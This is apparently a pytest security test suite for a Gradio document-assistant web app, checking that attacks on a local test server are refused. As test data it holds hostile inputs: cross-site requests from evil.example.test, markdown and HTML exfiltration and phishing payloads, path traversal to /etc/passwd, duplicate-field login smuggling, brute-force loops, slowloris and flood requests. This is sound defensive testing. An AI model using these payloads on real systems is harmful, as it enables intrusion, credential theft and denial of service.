"""Attacks on the running app (real server on 127.0.0.1): cross-site staff actions, oversized
histories and bodies, anonymous uploads, public file routes, live HTML in answers.

Each test reproduces an attack from the security review and fails on the code before the fix.
"""

from __future__ import annotations

import threading
import time

import httpx
import pytest
from gradio_client import Client

from assistant.web.security import lax_cookie, origin_allowed
from tests.web.test_app import STAFF, RunningApp

EVIL = "https://evil.example.test"
HOST = "staff.example.test"


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    # The attacks below are sent to the app's public name (HOST), which it must answer to.
    running = RunningApp(tmp_path_factory.mktemp("security"), name="security",
                         extra_env={"ASSISTANT_ALLOWED_HOSTS": f"{HOST},127.0.0.1,localhost"})
    yield running
    running.stop()


# --- 1. cross-site staff takeover -----------------------------------------------------------------


def test_origin_rule():
    assert origin_allowed("https://staff.example.test", "staff.example.test", [])
    assert origin_allowed("http://127.0.0.1:7860", "127.0.0.1:7860", [])
    assert not origin_allowed(EVIL, HOST, [])
    assert not origin_allowed("null", HOST, [])
    assert origin_allowed("https://intranet.kommune.dk/", HOST, ["https://intranet.kommune.dk"])
    assert b"SameSite=Lax" in lax_cookie(b"access-token=abc; Path=/; SameSite=none; Secure")
    assert b"none" not in lax_cookie(b"access-token=abc; Path=/; SameSite=none; Secure").lower()


def test_cross_site_preflight_gets_no_credentials(app):
    response = httpx.options(
        f"{app.url}/staff/gradio_api/call/delete",
        headers={"Host": HOST, "Origin": EVIL, "Access-Control-Request-Method": "POST"},
    )
    assert response.headers.get("access-control-allow-origin") != EVIL
    assert response.headers.get("access-control-allow-credentials") != "true" or response.status_code == 403


def test_cross_site_staff_actions_are_refused_even_with_a_login(app):
    staff = httpx.Client(base_url=app.url)
    login = staff.post("/staff/login", data={"username": STAFF[0], "password": STAFF[1]})
    assert login.status_code == 200
    cookie_headers = login.headers.get_list("set-cookie")
    assert cookie_headers and all("samesite=lax" in c.lower() for c in cookie_headers)
    assert not any("samesite=none" in c.lower() for c in cookie_headers)

    for name in ("delete", "resync", "feedback_export", "inventory"):
        attack = staff.post(f"/staff/gradio_api/call/{name}", json={"data": []},
                            headers={"Host": HOST, "Origin": EVIL})
        assert attack.status_code == 403, name
    # A cross-site GET may run, but its response carries nothing the other site may read.
    read = staff.get("/staff/gradio_api/info", headers={"Host": HOST, "Origin": EVIL})
    assert read.headers.get("access-control-allow-origin") is None
    # The same request from the app's own origin still works.
    own = staff.post("/staff/gradio_api/call/inventory", json={"data": []},
                     headers={"Origin": app.url})
    assert own.status_code == 200
    assert (app.corpus / "markedsdialog.md").exists()


# --- 2. stalling the chat through the history --------------------------------------------------------


def test_huge_history_costs_no_more_than_a_normal_question(app):
    client = Client(app.url + "/", verbose=False)
    question = "Må vi holde markedsdialog med leverandører før udbuddet?"
    started = time.perf_counter()
    client.predict(message=question, api_name="/chat")
    normal = time.perf_counter() - started

    history = [{"role": "user", "content": "markedsdialog " * 80_000},  # ~1 MB
               {"role": "assistant", "content": "svar " * 50_000}] * 3
    started = time.perf_counter()
    try:
        answer = client.predict(message="og hvad med det?", history=history[:2], api_name="/chat")
        assert len(answer["standalone_question"]) <= 4200
    except Exception:
        pass  # refused as too large is also a bounded outcome
    assert time.perf_counter() - started < normal + 2.0


def test_request_bodies_are_capped(app):
    body = b'{"data": ["' + b"x" * (3 * 1024 * 1024) + b'"]}'
    response = httpx.post(f"{app.url}/gradio_api/call/chat", content=body,
                          headers={"content-type": "application/json"})
    assert response.status_code == 413


def test_parallel_oversized_requests_do_not_starve_a_normal_user(app):
    body = b'{"data": ["' + b"x" * (3 * 1024 * 1024) + b'"]}'

    def attack():
        for _ in range(3):
            try:
                httpx.post(f"{app.url}/gradio_api/call/chat", content=body,
                           headers={"content-type": "application/json"}, timeout=30)
            except httpx.HTTPError:
                pass

    attackers = [threading.Thread(target=attack) for _ in range(8)]
    for t in attackers:
        t.start()
    started = time.perf_counter()
    Client(app.url + "/", verbose=False).predict(message="Hvad er markedsdialog?", api_name="/chat")
    waited = time.perf_counter() - started
    for t in attackers:
        t.join()
    assert waited < 15


# --- 3. anonymous uploads and public file routes -------------------------------------------------------


def test_public_app_refuses_uploads_and_file_routes(app, tmp_path):
    upload = httpx.post(f"{app.url}/gradio_api/upload", files={"files": ("x.txt", b"a" * 1000)})
    assert upload.status_code in (403, 404, 413)
    assert "/tmp" not in upload.text and "gradio" not in upload.text.lower()
    fetched = httpx.get(f"{app.url}/gradio_api/file=/etc/hostname")
    assert fetched.status_code in (403, 404)


def test_staff_upload_route_needs_login_and_is_size_capped(app):
    anonymous = httpx.post(f"{app.url}/staff/gradio_api/upload", files={"files": ("x.md", b"# a\n")})
    assert anonymous.status_code in (401, 403)
    staff = httpx.Client(base_url=app.url)
    staff.post("/staff/login", data={"username": STAFF[0], "password": STAFF[1]})
    too_big = b"x" * (60 * 1024 * 1024)  # the ingest limit is 50 MB
    response = staff.post("/staff/gradio_api/upload", files={"files": ("big.md", too_big)})
    assert response.status_code == 413


def test_staff_without_trailing_slash_is_found(app):
    response = httpx.get(f"{app.url}/staff", follow_redirects=True)
    assert response.status_code == 200


# --- 4. document and model text rendered inert -----------------------------------------------------


def test_model_markdown_loses_images_raw_html_and_foreign_links():
    from assistant.answer.assistant import Answer
    from assistant.web.app import render_answer

    hostile = ("Svar [1]. ![x](http://evil.example.test/leak?q=secret) <img src=http://evil.example.test/a> "
               "<form action=https://evil.example.test><input name=password></form> "
               "[klik](https://evil.example.test/phish) [kilde](/files/markedsdialog.md)")
    shown = render_answer(Answer(question="q", answer=hostile, abstained=False, mode="llm"), "da")
    assert "evil.example.test/leak" not in shown and "<img" not in shown and "<form" not in shown
    assert "](https://evil.example.test/phish)" not in shown
    # Only #source-n markers and the citations' official URLs stay links (issue 24 item 3).
    assert "](/files/markedsdialog.md)" not in shown and "kilde" in shown


def test_document_html_is_quoted_as_text(tmp_path):
    from assistant.answer.assistant import Assistant
    from assistant.corpus.service import sync
    from assistant.retrieval.search import Retriever
    from assistant.store.chroma import Store
    from tests.conftest import settings_for

    settings = settings_for(tmp_path)
    (settings.corpus_dir / "hostile.md").write_text(
        "---\ntitle: Droner\nlanguage: da\n---\n# Droner\n\n## Krav til droner\n"
        "Havnedroner skal kunne flyve i kraftig vind ![](http://evil.example.test/x.png) "
        "<img src=http://evil.example.test/y.png> &lt;img src=http://evil.example.test/z.png&gt;.\n",
        encoding="utf-8")
    store = Store(settings)
    sync(store, settings, [settings.corpus_dir])
    answer = Assistant(Retriever(store, settings), settings).ask("Hvor kraftig vind skal havnedroner kunne flyve i?")
    assert "<img" not in answer.answer and "![](" not in answer.answer


# --- 6. /files/ serves only ingested documents ------------------------------------------------------


def test_files_route_serves_only_ingested_documents(app):
    (app.corpus / ".git").mkdir(exist_ok=True)
    (app.corpus / ".git" / "config").write_text("[core]\n", encoding="utf-8")
    (app.corpus / "notes.bin").write_bytes(b"\x00\x01secret")
    assert httpx.get(f"{app.url}/files/markedsdialog.md").status_code == 200
    for path in (".git/config", "notes.bin", "..%2F..%2Fetc%2Fpasswd", "a%00b.md", "x" * 5000):
        assert httpx.get(f"{app.url}/files/{path}").status_code == 404, path


def test_files_route_answers_404_for_a_symlink_loop(app):
    loop = app.corpus / "loop.md"
    if not loop.is_symlink():
        loop.symlink_to("loop.md")
    assert httpx.get(f"{app.url}/files/loop.md").status_code == 404
    assert httpx.get(f"{app.url}/files/markedsdialog.md").status_code == 200


# --- 5. login rate limits, audit log; 6. /files/ behind the chat login; low items --------------------------------

CHAT_PASSWORD = "pw-chat-Secret-7"


@pytest.fixture(scope="module")
def locked(tmp_path_factory):
    """An app with a chat password, quick login limits (2 free failures, waits up to 2 s) and
    a 1 s header deadline, so the limits can be shown in seconds."""
    from tests.web.test_app import NEW_DOC

    running = RunningApp(tmp_path_factory.mktemp("locked"), name="locked", files={"slet.md": NEW_DOC},
                         extra_env={"ASSISTANT_CHAT_PASSWORD": CHAT_PASSWORD, "ASSISTANT_LOGIN_FREE_ATTEMPTS": "2",
                                    "ASSISTANT_LOGIN_MAX_DELAY_S": "2", "ASSISTANT_HEADER_TIMEOUT_S": "1"})
    yield running
    running.stop()


def staff_log_text(app) -> str:
    path = app.tmp / "locked-data" / "staff-actions.log"
    return path.read_text(encoding="utf-8") if path.exists() else ""


def login(app, path: str, user: str, password: str, client: str = "") -> httpx.Response:
    headers = {"X-Forwarded-For": client} if client else {}
    return httpx.post(f"{app.url}{path}", data={"username": user, "password": password}, headers=headers)


def test_login_limiter_waits_longer_after_each_failure():
    from assistant.web.security import LoginLimiter

    now = [0.0]
    limiter = LoginLimiter(free_attempts=3, max_delay_s=10, clock=lambda: now[0])
    keys = [("staff", "client", "10.0.0.1"), ("staff", "user", "staff")]
    assert [limiter.failed(keys) for _ in range(3)] == [0, 0, 0]
    waits = []
    for _ in range(6):
        waits.append(limiter.failed(keys))
        assert limiter.wait_s(keys) == waits[-1]
        now[0] += waits[-1]
    assert waits == [1, 2, 4, 8, 10, 10]  # doubling, capped
    limiter.failed(keys)
    assert [limiter.first_refusal(keys) for _ in range(3)] == [True, False, False]  # one log line per wait
    limiter.succeeded(keys)
    assert limiter.wait_s(keys) == 0 and limiter.failed(keys) == 0
    for _ in range(3):
        limiter.failed(keys)
    now[0] += 0.5  # the password check took half a second: the wait starts from its answer
    limiter.restart_waits(keys)
    assert limiter.wait_s(keys) == 1


def test_wrong_staff_passwords_are_slowed_down_with_a_growing_delay(locked):
    # Two free failures; the third starts a wait, during which even the right password is refused.
    assert [login(locked, "/staff/login", "staff", f"wrong-{i}").status_code for i in range(3)] == [400] * 3
    refused = login(locked, "/staff/login", "staff", STAFF[1])
    assert refused.status_code == 429 and refused.headers["retry-after"] == "1"
    time.sleep(1.1)
    assert login(locked, "/staff/login", "staff", "wrong-again").status_code == 400
    second = login(locked, "/staff/login", "staff", STAFF[1])
    assert second.status_code == 429 and second.headers["retry-after"] == "2"  # the wait grew
    time.sleep(2.1)
    assert login(locked, "/staff/login", "staff", STAFF[1]).status_code == 200
    assert login(locked, "/staff/login", "staff", "one-typo").status_code == 400  # success cleared it

    # A brute force: in 3 s only a handful of guesses reach the password check (300 took 0.6 s before).
    checked = attempts = 0
    started = time.perf_counter()
    while time.perf_counter() - started < 3:
        attempts += 1
        checked += login(locked, "/staff/login", "staff", f"guess-{attempts}").status_code == 400
    assert attempts >= 20 and checked <= 5
    time.sleep(2.1)
    assert login(locked, "/staff/login", "staff", STAFF[1]).status_code == 200


def test_staff_login_limits_hold_per_user_across_addresses_and_per_address_across_names(locked):
    # One user name tried from many addresses (a botnet): the name itself is slowed down.
    codes = [login(locked, "/staff/login", "staff", "guess", client=f"198.51.100.{i}").status_code
             for i in range(1, 8)]
    assert codes[:3] == [400, 400, 400] and set(codes[3:]) == {429}
    # One address trying many names: the address is slowed down.
    codes = [login(locked, "/staff/login", f"user{i}", "guess", client="203.0.113.9").status_code
             for i in range(7)]
    assert codes[:3] == [400, 400, 400] and set(codes[3:]) == {429}
    time.sleep(2.1)
    assert login(locked, "/staff/login", "staff", STAFF[1], client="198.51.100.1").status_code == 200


def test_wrong_chat_passwords_are_slowed_down_too(locked):
    codes = [login(locked, "/login", "bruger", f"wrong-{i}", client="192.0.2.50").status_code for i in range(6)]
    assert codes[:3] == [400, 400, 400] and set(codes[3:]) == {429}
    time.sleep(2.1)
    assert login(locked, "/login", "bruger", CHAT_PASSWORD, client="192.0.2.50").status_code == 200


def test_failed_logins_and_staff_actions_are_logged_without_personal_data(locked):
    login(locked, "/staff/login", "staff", "hunter2-not-it", client="192.0.2.77")
    login(locked, "/staff/login", "jens.hansen@kommune.dk", "hunter3", client="192.0.2.78")
    time.sleep(2.1)
    staff = Client(locked.url + "/staff/", auth=STAFF, verbose=False)
    staff.predict(source="slet.md", confirmed=True, api_name="/delete")
    staff.predict(api_name="/feedback_export")
    text = staff_log_text(locked)
    assert "failed login: page=staff user=staff" in text
    assert "failed login: page=staff user=an unknown user name" in text
    assert "staff action: user=staff action=delete documents=[slet.md]" in text
    assert "staff action: user=staff action=feedback_export" in text
    for private in ("hunter2", "hunter3", "jens.hansen", "192.0.2.", "127.0.0.1"):
        assert private not in text, private
    assert "staff action" in locked.log.read_text()  # the same lines reach stderr


def multipart_login(app, path: str, user: str, password: str, client: str) -> httpx.Response:
    """A login as the browser's Gradio login form sends it: multipart/form-data."""
    return httpx.post(f"{app.url}{path}", files={"username": (None, user), "password": (None, password)},
                      headers={"X-Forwarded-For": client})


def test_login_name_is_read_as_gradio_reads_it():
    import asyncio

    from assistant.web.security import login_name

    def name(body: bytes, content_type: str) -> str | None:
        scope = {"type": "http", "method": "POST", "path": "/staff/login",
                 "headers": [(b"content-type", content_type.encode())]}
        return asyncio.run(login_name(scope, body))

    form = "application/x-www-form-urlencoded"
    boundary = "----x"
    multipart = f"multipart/form-data; boundary={boundary}"

    def parts(*fields: tuple[str, str]) -> bytes:
        out = "".join(f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in fields)
        return (out + f"--{boundary}--\r\n").encode()

    assert name(b"username=+staff+&password=x", form) == "staff"  # stripped, as Gradio strips it
    assert name(b"username=st%C3%A6ff&password=x", form) == "stæff"
    assert name(parts(("username", "staff"), ("password", "x")), multipart) == "staff"
    assert name(parts(("password", "x"), ("username", " staff ")), multipart) == "staff"
    # Repeated fields: Gradio (FastAPI's FormData.get) takes the last, the old guard the first.
    assert name(b"username=nobody&username=staff&password=x", form) is None
    assert name(b"username=staff&password=a&password=b", form) is None
    assert name(parts(("username", "nobody"), ("username", "staff"), ("password", "x")), multipart) is None
    assert name(b"--x\r\nbroken", multipart) is None
    assert name(b"", "text/plain") == ""  # Gradio answers 422: no password is checked


def test_a_user_name_is_blocked_only_by_failures_from_several_addresses():
    from assistant.web.security import LoginLimiter

    now = [0.0]
    limiter = LoginLimiter(free_attempts=3, max_delay_s=10, clock=lambda: now[0])
    name = [("staff", "user", "staff")]
    for _ in range(20):  # one address, however often it fails, never blocks the name
        limiter.failed([("staff", "client", "10.0.0.1")], shared=name, source="10.0.0.1")
        now[0] += 10
    assert limiter.wait_s(name) == 0
    waits = [limiter.failed([("staff", "client", f"10.0.1.{i}")], shared=name, source=f"10.0.1.{i}")
             for i in range(3)]
    # The fourth address to fail makes the name wait, by its total failures (capped at 10 s);
    # that address itself is still free to try other names.
    assert waits == [0, 0, 10] and limiter.wait_s(name) == 10
    assert limiter.wait_s([("staff", "client", "10.0.1.2")]) == 0


def test_a_remembered_browser_is_recognised_only_for_its_page_and_name():
    from assistant.web.security import GuardMiddleware

    guard = GuardMiddleware(None, allowed_origins=[], max_body_bytes=1, max_upload_bytes=1)
    name, value = guard._device_cookie("staff", "staff", {"path": "/staff/login"})
    cookie = value.decode().split(";")[0].split("=", 1)[1]
    assert name == b"set-cookie" and "HttpOnly" in value.decode() and "Path=/staff/login" in value.decode()
    assert guard._device_id("staff", "staff", cookie) == cookie.split(".")[0]
    assert guard._device_id("staff", "other", cookie) == "" and guard._device_id("chat", "staff", cookie) == ""
    for forged in ("", ".", "abc", "abc.0123", cookie[:-1] + "x", "å.ø", "x" * 500):
        assert guard._device_id("staff", "staff", forged) == "", forged
    other = GuardMiddleware(None, allowed_origins=[], max_body_bytes=1, max_upload_bytes=1)
    assert other._device_id("staff", "staff", cookie) == ""  # another process: another key


def test_client_addresses_are_counted_per_subscriber():
    from assistant.web.security import client_address

    def of(host):
        return client_address({"client": (host, 1234)})

    assert of("192.0.2.7") == "192.0.2.7" and of("::ffff:192.0.2.7") == "192.0.2.7"
    # An IPv6 subscriber has a whole /64: one guesser must not get 2**64 fresh counters.
    assert of("2001:db8:1:2:3:4:5:6") == of("2001:db8:1:2:ffff::1") == "2001:db8:1:2::/64"


def test_a_multipart_login_counts_against_the_user_it_names(locked):
    # The browser's login form posts multipart/form-data. The guard read only url-encoded
    # bodies, so every browser login counted under one empty name, shared by everybody.
    time.sleep(2.1)  # earlier tests' waits are over
    before = len(staff_log_text(locked))
    codes = [multipart_login(locked, "/staff/login", "staff", f"wrong-{i}", f"198.18.0.{i}").status_code
             for i in range(1, 4)]
    assert codes == [400, 400, 400]
    # Three addresses failed for "staff" (2 free): the name now waits, whichever encoding is used.
    assert login(locked, "/staff/login", "staff", STAFF[1], client="198.18.0.9").status_code == 429
    logged = staff_log_text(locked)[before:]
    assert logged.count("failed login: page=staff user=staff") == 3, logged
    assert "unknown user name" not in logged
    time.sleep(2.1)
    assert multipart_login(locked, "/staff/login", "staff", STAFF[1], "198.18.0.9").status_code == 200


def test_wrong_logins_from_one_address_do_not_lock_the_user_out_elsewhere(locked):
    time.sleep(2.1)
    guesser = "203.0.113.66"
    codes = []
    started = time.perf_counter()
    # Guessing on through its own waits (up to 2 s), until a guess has just been counted.
    while time.perf_counter() - started < 4.5 or codes[-1] != 400:
        codes.append(multipart_login(locked, "/staff/login", "staff", f"guess-{len(codes)}", guesser).status_code)
        time.sleep(0.05)
        assert len(codes) < 500
    assert codes.count(400) >= 4 and 429 in codes  # the guessing address itself is slowed down
    assert multipart_login(locked, "/staff/login", "staff", STAFF[1], guesser).status_code == 429
    # ...but the staff user, from another address, logs in at once, in either encoding.
    assert multipart_login(locked, "/staff/login", "staff", STAFF[1], "192.0.2.200").status_code == 200
    assert login(locked, "/staff/login", "staff", STAFF[1], client="192.0.2.201").status_code == 200


def test_a_burst_of_concurrent_guesses_is_counted_before_any_is_checked(locked):
    # Each failure used to be counted after Gradio's answer: guesses sent at once all passed
    # the check before the first failure was recorded.
    from concurrent.futures import ThreadPoolExecutor

    time.sleep(2.1)
    gate = threading.Barrier(20)

    def guess(i: int) -> int:
        with httpx.Client(base_url=locked.url) as client:
            client.get("/healthz")  # connected: the guesses below leave together
            gate.wait()
            return client.post("/staff/login", data={"username": f"burst{i}", "password": "guess"},
                               headers={"X-Forwarded-For": "203.0.113.77"}).status_code

    started = time.perf_counter()
    with ThreadPoolExecutor(20) as pool:
        codes = list(pool.map(guess, range(20)))
    elapsed = time.perf_counter() - started
    # 2 free, the third starts a wait of 1 s, then 2 s (max): one more check each time one ran out.
    assert codes.count(400) <= 3 + sum(elapsed > t for t in (1, 3, 5, 7, 9)), (codes, elapsed)


def test_a_login_body_with_repeated_fields_is_refused(locked):
    # With `username` twice the limiter read the first and Gradio the last: a decoy name in
    # front of "staff" escaped the name's limit, and the password was still checked for "staff".
    def post(body: bytes, content_type: str = "application/x-www-form-urlencoded") -> httpx.Response:
        return httpx.post(f"{locked.url}/staff/login", content=body,
                          headers={"content-type": content_type, "X-Forwarded-For": "192.0.2.210"})

    password = STAFF[1].encode()
    bodies = [b"username=decoy&username=staff&password=" + password,
              b"username=staff&password=wrong&password=" + password]
    multipart = (b'--b\r\nContent-Disposition: form-data; name="username"\r\n\r\ndecoy\r\n'
                 b'--b\r\nContent-Disposition: form-data; name="username"\r\n\r\nstaff\r\n'
                 b'--b\r\nContent-Disposition: form-data; name="password"\r\n\r\n' + password + b"\r\n--b--\r\n")
    responses = [post(b) for b in bodies] + [post(multipart, "multipart/form-data; boundary=b")]
    for response in responses:
        assert response.status_code == 400 and "Incorrect credentials" not in response.text, response.text
        assert not any(c.startswith("access-token") for c in response.cookies), response.cookies
    assert login(locked, "/staff/login", "staff", STAFF[1], client="192.0.2.210").status_code == 200


def test_documents_need_the_chat_login_when_the_chat_has_a_password(locked):
    assert httpx.get(f"{locked.url}/files/markedsdialog.md").status_code == 401
    browser = httpx.Client(base_url=locked.url)
    assert browser.post("/login", data={"username": "bruger", "password": CHAT_PASSWORD},
                        headers={"X-Forwarded-For": "192.0.2.99"}).status_code == 200
    page = browser.get("/files/markedsdialog.md")
    assert page.status_code == 200 and "Markedsdialog" in page.text


def _slow_client(app, first: bytes = b"") -> float:
    """Seconds until the server closes a connection that trickles header bytes."""
    import socket

    with socket.create_connection(("127.0.0.1", app.port), timeout=8) as sock:
        if first:
            sock.sendall(first)
            sock.recv(65536)  # the first, complete response
        started = time.perf_counter()
        sock.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        try:
            while time.perf_counter() - started < 8:
                sock.sendall(b"X")  # one header byte at a time, never finishing
                time.sleep(0.3)
                sock.settimeout(0.01)
                try:
                    if sock.recv(65536) == b"":
                        break
                except TimeoutError:
                    pass
                sock.settimeout(8)
        except (BrokenPipeError, ConnectionResetError):
            pass
        return time.perf_counter() - started


def test_slow_header_connections_are_closed(locked):
    assert _slow_client(locked) < 4
    # The deadline holds for the next request on a kept-alive connection too.
    assert _slow_client(locked, b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n") < 4


def test_unknown_api_names_are_404_without_a_traceback(app):
    for path in ("/gradio_api/call/nonexistent", "/gradio_api/run/nonexistent", "/staff/gradio_api/run/x"):
        response = httpx.post(app.url + path, json={"data": []})
        assert response.status_code in (401, 404), path
    joined = httpx.post(f"{app.url}/gradio_api/queue/join", json={"data": [], "fn_index": 999, "session_hash": "x"})
    assert joined.status_code == 404
    assert "Traceback" not in app.log.read_text()


def test_malformed_chat_input_gets_a_plain_answer(app):
    for data in ([{"x": 1}, "not-a-list"], [123, 456], ["hej", [{"role": 5}]], ["hej", [1, 2]]):
        started = httpx.post(f"{app.url}/gradio_api/call/chat", json={"data": data})
        assert started.status_code == 200
        events = httpx.get(f"{app.url}/gradio_api/call/chat/{started.json()['event_id']}", timeout=30).text
        assert "event: complete" in events and "Traceback" not in events and "Error" not in events, data


def test_a_chunked_staff_upload_is_refused_before_anything_is_stored(app):
    staff = httpx.Client(base_url=app.url)
    staff.post("/staff/login", data={"username": STAFF[0], "password": STAFF[1]})

    def body():
        yield b"--b\r\nContent-Disposition: form-data; name=\"files\"; filename=\"x.md\"\r\n\r\n"
        yield b"x" * 1000

    response = staff.post("/staff/gradio_api/upload", content=body(),
                          headers={"content-type": "multipart/form-data; boundary=b"})
    assert response.status_code == 411


def test_a_refused_or_saved_upload_leaves_no_temporary_copy(tmp_path, monkeypatch):
    from assistant.web.app import save_uploads

    cache = tmp_path / "gradio-cache"
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(cache))
    uploads = []
    for name, size in (("big.md", 3 * 1024 * 1024), ("ok.md", 100), ("run.sh", 10)):
        folder = cache / f"hash-{name}"
        folder.mkdir(parents=True)
        (folder / name).write_bytes(b"# x\n" + b"a" * size)
        uploads.append(str(folder / name))
    saved, refused = save_uploads(uploads, tmp_path / "corpus", replace=False, max_mb=1)
    assert [p.name for p in saved] == ["ok.md"] and {r[0] for r in refused} == {"big.md", "run.sh"}
    assert not any(p.is_file() for p in cache.rglob("*"))
    # A file a caller passes from elsewhere (not Gradio's cache) is never deleted.
    mine = tmp_path / "mine.md"
    mine.write_text("# mine\n", encoding="utf-8")
    save_uploads([str(mine)], tmp_path / "corpus", replace=False, max_mb=1)
    assert mine.exists()


@pytest.mark.parametrize("name, expected_suffix", [
    ("a" * 200 + ".docx", ".docx"), ("b" * 130 + ".md", ".md"), ("Vejledning om IP.pdf", ".pdf")])
def test_a_long_upload_name_keeps_its_type(name, expected_suffix):
    from assistant.web.app import safe_filename

    safe = safe_filename(name)
    assert len(safe) <= 120 and safe.endswith(expected_suffix)


def test_staff_page_says_when_feedback_cannot_be_saved():
    from types import SimpleNamespace

    from assistant.web.app import storage_notice

    broken = SimpleNamespace(feedback=SimpleNamespace(last_error=lambda: "disk full: free space in data"))
    assert "disk full" in storage_notice(broken)
    healthy = SimpleNamespace(feedback=SimpleNamespace(last_error=lambda: ""))
    assert storage_notice(healthy) == ""


# --- 7. the queue: a flood of large jobs is refused beyond a bound, memory stays bounded ----------------------


@pytest.fixture(scope="module")
def crowded(tmp_path_factory):
    """An app whose two chat workers are held by slow questions (the model stalls), with a
    queue of at most 12 waiting jobs, 3 per client address."""
    from tests.fake_openai import FakeOpenAI

    with FakeOpenAI() as model:
        running = RunningApp(tmp_path_factory.mktemp("crowded"), name="crowded", extra_env={
            "OPENAI_API_KEY": "sk-test", "OPENAI_BASE_URL": model.url, "ASSISTANT_CHAT_MODEL": "stall",
            "ASSISTANT_TRANSLATE_QUERY": "false", "ASSISTANT_LLM_TIMEOUT": "30", "ASSISTANT_CONCURRENCY": "2",
            "ASSISTANT_QUEUE_MAX_SIZE": "12", "ASSISTANT_QUEUE_PER_CLIENT": "3"})
        yield running
        running.stop()


RSS_CAP_MB = 150  # what the flood below may add to the app's memory (it added ~GB before the bounds)


def test_a_flood_of_queued_jobs_is_refused_beyond_the_bound_and_memory_stays_bounded(crowded):
    from concurrent.futures import ThreadPoolExecutor

    import psutil

    app = crowded
    process = psutil.Process(app.proc.pid)

    def post(api: str, data: list, client: str) -> httpx.Response:
        return httpx.post(f"{app.url}/gradio_api/call/{api}", json={"data": data},
                          headers={"X-Forwarded-For": client}, timeout=60)

    for i in range(2):  # slow questions hold both workers
        assert post("chat", ["Må vi holde markedsdialog?", []], f"192.0.2.{i + 1}").status_code == 200
    time.sleep(1)
    baseline = process.memory_info().rss

    # One client: three jobs wait, the fourth and later are refused at once.
    one = [post("chat", [f"spørgsmål {k}", []], "192.0.2.50") for k in range(5)]
    assert [r.status_code for r in one] == [200, 200, 200, 503, 503], [r.text for r in one]
    assert "from your address" in one[-1].json()["detail"]

    # A flood: 40 large questions (~470 KB of history each, within every input bound) from ten
    # addresses and 20 notes of ~1 MB of tiny citations from ten more, all at once.
    history = [{"role": "user" if k % 2 == 0 else "assistant", "content": f"{k} " + "markedsdialog " * 1400}
               for k in range(24)]
    junk_note = [{"question": "q", "answer": "a", "mode": "extractive", "abstained": False,
                  "citations": [{"n": k, "source": "markedsdialog.md"} for k in range(22_000)]}, "da"]
    jobs = ([("chat", ["og hvad så?", history], f"198.51.100.{k % 10 + 1}") for k in range(40)]
            + [("note", junk_note, f"203.0.113.{k % 10 + 1}") for k in range(20)])
    peak, sampling = [baseline], threading.Event()

    def sample():
        while not sampling.is_set():
            peak[0] = max(peak[0], process.memory_info().rss)
            time.sleep(0.05)

    sampler = threading.Thread(target=sample)
    sampler.start()
    started = time.perf_counter()
    try:
        with ThreadPoolExecutor(len(jobs)) as pool:
            results = list(pool.map(lambda job: (job[0], job[2], post(*job)), jobs))
        time.sleep(1)
    finally:
        sampling.set()
        sampler.join()
    elapsed = time.perf_counter() - started
    grown_mb = (peak[0] - baseline) / 2**20
    print(f"flood: {elapsed:.1f} s, RSS {baseline / 2**20:.0f} MB + {grown_mb:.0f} MB at peak")

    chats = [(client, r) for api, client, r in results if api == "chat"]
    accepted = [client for client, r in chats if r.status_code == 200]
    assert 1 <= len(accepted) <= 12 - 3, len(accepted)  # three jobs of the first client still wait
    assert max(accepted.count(c) for c in set(accepted)) <= 3
    refused = [r for _, r in chats if r.status_code != 200]
    assert all(r.status_code == 503 and ("queue is full" in r.json()["detail"] or "from your address"
                                         in r.json()["detail"]) for r in refused), {r.text[:200] for r in refused}
    notes = [r for api, _, r in results if api == "note"]
    assert all(r.status_code == 400 and "Input too large" in r.json()["detail"] for r in notes), \
        {r.text[:200] for r in notes}
    assert grown_mb < RSS_CAP_MB, f"the flood grew the app by {grown_mb:.0f} MB"


def test_oversized_api_inputs_are_refused_with_a_reason(crowded):
    from assistant.web.chat import API_MAX_CHARS, API_MAX_CITATIONS, api_input_problem

    long_history = [{"role": "user", "content": "x"}] * 101
    assert "101 messages" in api_input_problem("chat", ["q", long_history])
    assert "characters" in api_input_problem("chat", ["q" * (API_MAX_CHARS + 1), []])
    answer = {"question": "q", "answer": "a", "citations": [{"n": 1}] * (API_MAX_CITATIONS + 1)}
    assert "citations" in api_input_problem("note", [answer, "da"])
    assert "nested" in api_input_problem("note", [{"a": [[[[[[["deep"]]]]]]]}, "da"])
    assert api_input_problem("chat", ["Må vi holde markedsdialog?", [{"role": "user", "content": "hej"}]]) is None
    assert api_input_problem("chat", [{"x": 1}, "not-a-list"]) is None  # malformed, small: the endpoint answers
    # Through the API: refused before it is queued, with the reason.
    response = httpx.post(f"{crowded.url}/gradio_api/call/chat", json={"data": ["q", long_history]},
                          headers={"X-Forwarded-For": "192.0.2.99"})
    assert response.status_code == 400 and "at most 100" in response.json()["detail"]
